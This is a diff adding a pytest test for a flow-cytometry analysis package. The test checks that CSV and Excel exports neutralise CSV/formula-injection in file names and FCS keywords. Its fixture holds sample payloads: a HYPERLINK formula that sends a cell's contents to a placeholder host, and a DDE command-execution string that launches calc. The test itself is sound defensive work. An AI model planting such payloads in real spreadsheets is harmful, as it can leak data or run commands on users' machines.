@@ -167,3 +167,37 @@ def test_bad_clinical_input_is_an_error_not_a_different_tier(tmp_path):
         load(tmp_path / "c.csv", tmp_path / "l.csv")
     with pytest.raises(ConfigError):
         cytomnt.analyze([FIXTURES / "csf_bd.fcs"], strategy=tmp_path / "missing.xml")
+
+
+def test_hostile_names_and_keywords_never_become_spreadsheet_formulas(tmp_path):
+    """A file named '=cmd.fcs' whose $SRC and $CYT hold formulas: every text cell of every CSV starts
+    with something a spreadsheet shows as text (the OWASP apostrophe), numbers stay numbers, and the
+    workbook holds no formula cell."""
+    import csv
+
+    import openpyxl
+
+    import cytomnt
+    from cytomnt.synth import TubeSpec, write_tube
+    hostile = {"$SRC": '=HYPERLINK("http://x.invalid/?"&A1,"click")', "$CYT": "@SUM(1+1)*cmd|/C calc!A0",
+               "TUBE NAME": "-2+3", "OPERATOR": "+cmd"}
+    write_tube(tmp_path / "in" / "=cmd.fcs", TubeSpec(events=20_000, car_frac_of_t=0.1, extra_keywords=hostile), 5)
+    out = tmp_path / "out"
+    cytomnt.analyze([tmp_path / "in"], out=out, keywords="$SRC,$CYT,TUBE NAME,OPERATOR", xlsx=True, jobs=1)
+    for table in ("samples", "populations", "statistics", "errors"):
+        rows = list(csv.reader((out / f"{table}.csv").open()))
+        for row in rows:
+            for cell in row:
+                if cell and cell[0] in "=+@\t\r":
+                    raise AssertionError((table, cell))
+                if cell.startswith("-"):
+                    float(cell)                      # a minus only on numbers
+    samples = list(csv.DictReader((out / "samples.csv").open()))
+    assert samples[0]["sample_id"] == "'=cmd" and samples[0]["file"].endswith("=cmd.fcs")
+    assert any(v.startswith("'=HYPERLINK") for v in samples[0].values())
+    assert float(samples[0]["events"]) > 0 and float(samples[0]["t_cells"]) > 0
+    wb = openpyxl.load_workbook(out / "statistics.xlsx")
+    formulas = [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row
+                if c.data_type == "f"]
+    assert not formulas, formulas[:5]
+    assert any(c.value == "=cmd" for ws in wb for row in ws.iter_rows() for c in row)     # shown as written
